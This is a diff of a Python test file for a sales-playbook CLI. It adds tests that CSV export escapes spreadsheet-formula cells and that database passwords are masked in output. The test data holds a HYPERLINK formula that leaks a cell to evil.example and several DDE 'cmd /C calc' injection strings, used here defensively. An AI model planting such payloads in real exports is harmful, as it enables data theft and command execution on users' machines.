@@ -7,8 +7,10 @@ import io
 import json
 import random
 import re
+import socket
 import subprocess
 import sys
+import uuid
 from collections import Counter
 from pathlib import Path
 
@@ -346,14 +348,21 @@ def test_list_and_history_carry_outcomes_and_the_playbook_in_every_format(tmp_pa
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     case = {"id": formula, "opportunity": {"id": "+1", "account_id": "@acc", "weeks_to_close": 1, "win_rate": 80}}
-    db = stored_log(tmp_path, json.dumps(case))
+    # OWASP's other starts: minus, tab, carriage return
+    others = [{"id": start + "1+cmd|' /C calc'!A0", "opportunity": {"account_id": "@acc"}} for start in "-\t\r"]
+    db = stored_log(tmp_path, *(json.dumps(c) for c in [case, *others]))
     code, out, _ = invoke("list", "--db", db, "--format", "csv")
-    [row] = list(csv.DictReader(io.StringIO(out)))
+    row, *rows = list(csv.DictReader(io.StringIO(out)))
     assert code == 0
     assert (row["case"], row["record_id"], row["account_id"]) == ("'" + formula, "'+1", "'@acc")
+    assert [r["case"] for r in rows] == ["'" + c["id"] for c in others]
+    code, out, _ = invoke("history", "@acc", "--db", db, "--format", "csv")  # history writes the same CSV
+    assert code == 0 and [r["case"] for r in csv.DictReader(io.StringIO(out))] == [row["case"]] + [
+        "'" + c["id"] for c in others
+    ]
     # JSON is data, not a spreadsheet: it keeps the ids as they are
     code, out, _ = invoke("list", "--db", db, "--format", "json")
-    assert json.loads(out)["case"] == formula
+    assert [json.loads(line)["case"] for line in out.splitlines()] == [formula] + [c["id"] for c in others]
 
 
 @pytest.fixture
@@ -608,6 +617,61 @@ def test_the_readme_summary_of_an_export_with_quarantined_rows(tmp_path: Path) -
     assert code == 0
     summary = err.strip().split("; stored in")[0]
     assert readme_summary("N rows: E cases evaluated (…), Q quarantined").fullmatch(summary), summary
+
+
+def test_a_database_password_is_never_printed(postgres_server: str, tmp_path: Path) -> None:
+    """Not in recommend's summary or its quarantined rows read from --sql, not in history's or serve's
+    lines, not when the audit log cannot be opened: the URL is shown with *** for its password."""
+    import psycopg
+    import sqlalchemy as sa
+
+    secret = f"pw-{uuid.uuid4().hex[:10]}"  # made here: no password in the repository
+    name = f"t_{uuid.uuid4().hex[:12]}"
+    with psycopg.connect(postgres_server.replace("postgresql+psycopg", "postgresql") + "/postgres") as conn:
+        conn.autocommit = True
+        conn.execute(f'CREATE DATABASE "{name}"')  # a generated name, not user input
+    plain = f"{postgres_server}/{name}"
+    url = plain.replace("postgres@", f"postgres:{secret}@")  # the test server trusts loopback: any password
+    shown = plain.replace("postgres@", "postgres:***@")
+    engine = sa.create_engine(plain)
+    with engine.begin() as conn:
+        conn.execute(sa.text("CREATE TABLE deals (deal_id text PRIMARY KEY, amount numeric)"))
+        conn.execute(sa.text("INSERT INTO deals VALUES ('p1', 1500), ('p2', 70)"))
+    engine.dispose()
+    mapping = tmp_path / "deals.yaml"
+    mapping.write_text(
+        "mapping: {id: deals, record_id: deal_id}\n"
+        "quarantine:\n  - {field: deal_id, one_of: [p2], code: held, reason: held}\n"
+        "fields:\n  opportunity.amount: {from: amount, type: number}\n",
+        encoding="utf-8",
+    )
+    common = ["--playbook", PIPELINE, "--sql", url, "--mapping", str(mapping), "--as-of", "2026-11-27"]
+    code, _, err = invoke("recommend", *common, "--table", "deals", "--db", url, "--verbose")
+    assert code == 0, err
+    assert f"{shown}:2: quarantined: held" in err and f"stored in {shown} as evaluations 1–1" in err
+    code, _, err = invoke("history", "nobody", "--db", url)
+    assert (code, err.strip()) == (1, f"no evaluation of 'nobody' in {shown}")
+    for unopened, named in (
+        (f"postgresql://u:{secret}@127.0.0.1:1/db", "postgresql://u:***@127.0.0.1:1/db"),
+        (f"postgresql//u:{secret}@127.0.0.1/db", "postgresql//u:***@127.0.0.1/db"),  # not a URL at all
+    ):
+        code, _, err = invoke("list", "--db", unopened)
+        assert code == 1 and err.startswith(f"cannot open the audit log {named}: "), err
+        assert secret not in err
+    no_log = url.rsplit("/", 1)[0] + "/postgres"  # a database without an audit log, to a command that reads one
+    code, _, err = invoke("list", "--db", no_log)
+    assert code == 1 and "holds no audit log" in err and secret not in err, err
+    code, _, err = invoke("backup", str(tmp_path / "copy.db"), "--db", url)
+    assert code == 1 and err.startswith(f"{shown} is not a SQLite file"), err
+    with socket.socket() as taken:  # serve prints its line, then cannot listen on a port in use, and stops
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = str(taken.getsockname()[1])
+        result = CliRunner(env={"PLAYBOOK_WEBHOOK_SECRET": "x" * 32}).invoke(
+            main, ["serve", "--playbook", PIPELINE, "--db", url, "--host", "127.0.0.1", "--port", port]
+        )
+    assert f"audit log {shown}; routes: " in result.stderr, result.stderr
+    assert secret not in result.stderr + result.stdout
 
 
 @pytest.mark.parametrize(
